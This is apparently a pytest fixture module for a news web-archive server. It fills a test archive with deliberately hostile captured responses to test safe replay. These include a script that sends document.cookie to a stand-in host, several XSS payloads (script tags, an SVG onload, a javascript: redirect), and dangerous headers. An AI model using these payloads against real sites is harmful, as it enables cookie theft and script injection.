"""An archive with what is hard to serve, and `newskeep serve` running over it.

`pytest_plugins = ["web_archive"]` in a test module gives it the session's `site`.
Nothing is tested here: PYTEST_DONT_REWRITE lets test modules import the rest as well.
"""

from __future__ import annotations

import gzip
import http.client
import os
import random
import re
import signal
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from waiting import until
from warm_start import shared

from crawler.extraction.duplicates import fingerprinted
from storage import cdxj
from storage.archive import Archive
from storage.articles import write_part
from storage.model import Article, Block, Capture, Exchange, Extractor, Reason, TextSource
from storage.objects.local import LocalStore
from storage.spool import Parcel
from storage.urls import parse_timestamp
from storage.warc import make_stem
from storage.warc_writer import WarcWriter

_PORT = re.compile(r"archived pages on port (\d+)[,;]")
REQUEST = b"GET / HTTP/1.1\r\nHost: paper.example\r\n\r\n"
#: The Original Resource of RFC 7089 and its Mementos, as in its figures 2 and 28.
RFC_URL = "http://a.example.org/"
RFC_TIMES = ("20000620180259", "20000621011731", "20000621044156", "20010911203610", "20091027204954")

PAPER = "https://www.paper.example"
BEGIN = datetime(2026, 3, 1, 6, 0, tzinfo=UTC)
#: Larger in its file than what is read at once, and not to be pressed.
BIG = random.Random(7).randbytes(3_000_000)
COOKIE = "session=of-a-reader; Path=/; HttpOnly"
HOSTILE_HEAD = [
    ("Content-Type", "text/html; charset=utf-8"),
    ("Set-Cookie", COOKIE),
    ("Set-Cookie", "second=1"),
    ("Refresh", "0; url=https://elsewhere.example/"),
    ("Service-Worker-Allowed", "/"),
    ("Content-Security-Policy", "default-src *"),
    ("Access-Control-Allow-Origin", "*"),
    ("Clear-Site-Data", '"*"'),
    ("WWW-Authenticate", 'Basic realm="give it to me"'),
    ("Link", "<https://elsewhere.example/x>; rel=preload"),
    ("Location", "https://elsewhere.example/"),
    ("Bad name", "x"),
    ("X-Odd", "a\x01b\xe6\x7f"),
]
HOSTILE_BODY = b"<script>fetch('https://elsewhere.example/'+document.cookie)</script><p>Text"
GZIPPED = gzip.compress(b"<p>pressed by its server", mtime=0)


def answer(body: bytes, status: str = "200 OK", headers: list[tuple[str, str]] | None = None) -> bytes:
    fields = headers if headers is not None else [("Content-Type", "text/html; charset=utf-8")]
    lines = [f"{name}: {value}" for name, value in [*fields, ("Content-Length", str(len(body)))]]
    return "\r\n".join([f"HTTP/1.1 {status}", *lines, "", ""]).encode("latin-1") + body


def chunked(body: bytes, size: int) -> bytes:
    pieces = (body[start : start + size] for start in range(0, len(body), size))
    framed = b"".join(b"%X;ext=1\r\n%b\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"
    return b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\n\r\n" + framed


def typed(kind: str | None, body: bytes = b"<script>alert(1)</script>") -> bytes:
    return answer(body, headers=[] if kind is None else [("Content-Type", kind)])


#: Path -> answer, each captured once.
ANSWERS = {
    "/hostile": answer(HOSTILE_BODY, headers=HOSTILE_HEAD),
    "/gzipped": answer(GZIPPED, headers=[("Content-Type", "text/html"), ("Content-Encoding", "gzip")]),
    "/many-fields": answer(b"x", headers=[("Content-Type", "text/plain"), *(("X-Field", "v" * 500),) * 120]),
    "/moved": answer(b"gone there", "301 Moved Permanently", [("Location", "/story")]),
    "/moved-out": answer(b"", "302 Found", [("Location", "https://elsewhere.example/?a=1&b=2")]),
    "/moved-to-script": answer(b"", "302 Found", [("Location", "javascript:alert(1)")]),
    "/missing": answer(b"<p>Not here", "404 Not Found"),
    "/broken": answer(b"<p>Out of order", "503 Service Unavailable"),
    "/odd-status": answer(b"no robots", "999 Request denied"),
    "/part": answer(b"a part", "206 Partial Content", [("Content-Range", "bytes 5-10/100")]),
    "/nothing": answer(b"", "204 No Content"),
    "/not-http": b"SSH-2.0-OpenSSH_9.2\r\n\r\nhello",
    "/big": answer(BIG, headers=[("Content-Type", "video/mp4")]),
    "/big-chunked": chunked(BIG, 77_777),
    "/big-cut": chunked(BIG, 100_000)[:-50_000],
    "/no-type": typed(None),
    "/page.svg": typed("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "/paper.pdf": typed("application/pdf"),
    "/setup.exe": typed("application/x-msdownload"),
    "/applet.hta": typed("application/hta"),
    "/na%22me;%C3%A9.bin": typed("application/x-dosexec; x=\x0b"),
    "/odd-type": typed("text/ html"),
    "/evil-charset": typed('text/html; charset="utf-7\r'),
    "/a%20b/%C3%A6?q=r%C3%B8d&x=1;y=2": answer(b"escapes"),
    "//double//slash/": answer(b"slashes"),
    "/?q=http://other.example/a?b=c": answer(b"a URL in the query"),
    "/story?page=2": answer(b"second page"),
}
OTHERS = {
    "http://xn--blbr-roah.example/": answer("blåbær".encode()),
    "http://Old.Example/Not|normal": answer(b"as another crawler wrote it"),
    "http://paper.example:8000/port": answer(b"port"),
    "http://www.paper.example/secure": answer(b"", "301 Moved", [("Location", "https://www.paper.example/secure")]),
}
#: What /story said, a day later each time; the third is as the second.
STORY = (
    "The council voted for the new bridge on Monday evening after a long debate about its cost and its colour.",
    "The council voted against the new bridge on Monday evening after a long debate about its cost and its colour.",
    "The council voted against the new bridge on Monday evening after a long debate about its cost and its colour.",
)


def page_of(text: str) -> bytes:
    return answer(f"<!doctype html><title>Bridge</title><p>{text}</p>".encode())


@dataclass(frozen=True, slots=True)
class Answer:
    status: int
    headers: http.client.HTTPMessage
    body: bytes


@dataclass(frozen=True, slots=True)
class Site:
    """A running server: the addresses of its two origins, and its archive's folder."""

    app: str
    originals: str
    folder: Path

    def get(self, address: str, method: str = "GET", **headers: str) -> Answer:
        """Ask for an address, or for a path of the app, and follow no redirect."""
        parts = urlsplit(self.app if address.startswith("/") else address)
        path = address if address.startswith("/") else "/" + address.split("/", 3)[3]
        with closing(http.client.HTTPConnection(parts.netloc, timeout=240)) as connection:
            connection.request(method, path, headers={name.replace("_", "-"): value for name, value in headers.items()})
            response = connection.getresponse()
            return Answer(response.status, response.headers, response.read())

    def original(self, path: str, method: str = "GET", **headers: str) -> Answer:
        """Ask the other origin for a path."""
        return self.get(self.originals + path, method, **headers)


def forked_saving() -> str:
    """Python after which what the processes that save for a server are forked from is forked from the warm one."""
    command = shared().command("newskeep.saving.zygote")
    return f"import newskeep.saving.processes; newskeep.saving.processes._ZYGOTE = {command!r}"


class Serving:
    """`newskeep serve` on free ports for the time of the block; what saves for it is forked from the warm process."""

    def __init__(self, folder: Path, *options: str, **environ: str) -> None:
        self._folder = folder
        self._options = options
        clean = {name: value for name, value in os.environ.items() if not name.startswith(("NEWSKEEP_", "AWS_"))}
        self._environ = {**clean, **environ}

    def __enter__(self) -> Site:
        command = ["serve", "--archive", str(self._folder), "--port", "0", "--originals-port", "0", *self._options]
        # A file: a pipe that nobody reads would stop the server once it is full.
        self.log = self._folder.with_name(f"serve-{id(self)}.log")
        with self.log.open("wb") as log:
            self.process = shared().start(
                command, self._folder.parent, self._environ, stderr=log.fileno(), before=self._before()
            )
        assert self.process.stdout is not None
        address = self.process.stdout.readline().decode().strip().rstrip("/")
        port = until(
            lambda: _PORT.search(self.log.read_text()),
            unless=lambda: self.process.poll() is not None and f"serve did not start: {self.log.read_text()}",
        )
        return Site(address, f"{address.rpartition(':')[0]}:{port[1]}", self._folder)

    def __exit__(self, *_: object) -> None:
        self.process.send_signal(signal.SIGINT)
        self.process.communicate()

    def _before(self) -> str:
        """Python that the server's process begins with."""
        return forked_saving()


@pytest.fixture(scope="session")
def web_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("web") / "archive"
    fill(folder)
    return folder


@pytest.fixture(scope="session")
def site(web_folder: Path) -> Iterator[Site]:
    with Serving(web_folder) as running:
        yield running


def fill(folder: Path) -> None:
    folder.mkdir()
    with Archive(LocalStore(str(folder)), folder) as archive:
        fetched = [(RFC_URL, parse_timestamp(text), answer(text.encode())) for text in RFC_TIMES]
        fetched += [(PAPER + path, BEGIN, response) for path, response in ANSWERS.items()]
        fetched += [(url, BEGIN, response) for url, response in OTHERS.items()]
        parcel = write(folder / "made", 0, fetched)
        archive.deliver(parcel)
        stories = [(f"{PAPER}/story", BEGIN + timedelta(days=day), page_of(text)) for day, text in enumerate(STORY)]
        archive.deliver(write(folder / "made", 1, stories, texts=STORY))
        once_more = (f"{PAPER}/big", BEGIN + timedelta(minutes=30), ANSWERS["/big"])
        archive.deliver(write(folder / "made", 2, [once_more], revisit=True))
        archive.store.replace("sites/paper.example.json", b'{"seen": 1}\n')


def write(
    folder: Path,
    serial: int,
    fetched: list[tuple[str, datetime, bytes]],
    texts: tuple[str, ...] = (),
    revisit: bool = False,
) -> Parcel:
    """Write a WARC with its parts; `texts` become articles, and with `revisit` the last answer comes once more."""
    folder.mkdir(exist_ok=True)
    filename = make_stem(BEGIN + timedelta(hours=serial), "0123456789ab", serial) + ".warc.gz"
    parcel = Parcel(folder / filename)
    writer = WarcWriter(parcel.warc, filename, {"software": "newskeep/tests"})
    captures: list[Capture] = []
    for url, moment, response in fetched:
        capture = writer.append(Exchange(url, moment, REQUEST, response, peer="192.0.2.1"))
        assert capture is not None
        captures.append(capture)
    if revisit:
        url, moment, response = fetched[-1]
        again = Exchange(url, moment + timedelta(minutes=30), REQUEST, response)
        capture = writer.append(again, refers_to=captures[-1])
        assert capture is not None
        captures.append(capture)
    writer.close()
    parcel.cdxj.write_bytes(b"".join(cdxj.lines(captures)))
    with parcel.text.open("wb") as file:
        for _ in write_part(file, [_article(*pair) for pair in zip(captures, texts, strict=False)]):
            pass
    return parcel


def _article(capture: Capture, text: str) -> Article:
    article = Article(
        url=capture.url,
        title="Bridge & <b>council</b>\x0b",
        authors=("Ada Ærø",),
        published="2026-03-01T05:00:00+01:00",
        language="en",
        blocks=(Block(text, "p", True, Reason("tests")), Block("Subscribe!", "p", False, Reason("repeated"))),
        extractor=Extractor("newskeep", "1"),
        timestamp=capture.timestamp,
        warc=TextSource(capture.filename, capture.offset, capture.length, capture.digest),
    )
    return fingerprinted(article)
